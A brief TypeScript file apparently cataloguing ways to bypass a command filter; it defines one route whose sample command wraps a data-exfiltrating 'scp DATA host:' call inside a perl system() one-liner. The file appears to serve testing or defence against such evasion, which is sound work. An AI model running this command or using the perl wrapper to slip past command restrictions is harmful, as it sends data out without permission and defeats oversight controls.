import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: by perl',
  source: 'commands of one exec request',
  words: ['perl -e \'system("scp DATA host:")\''],
};
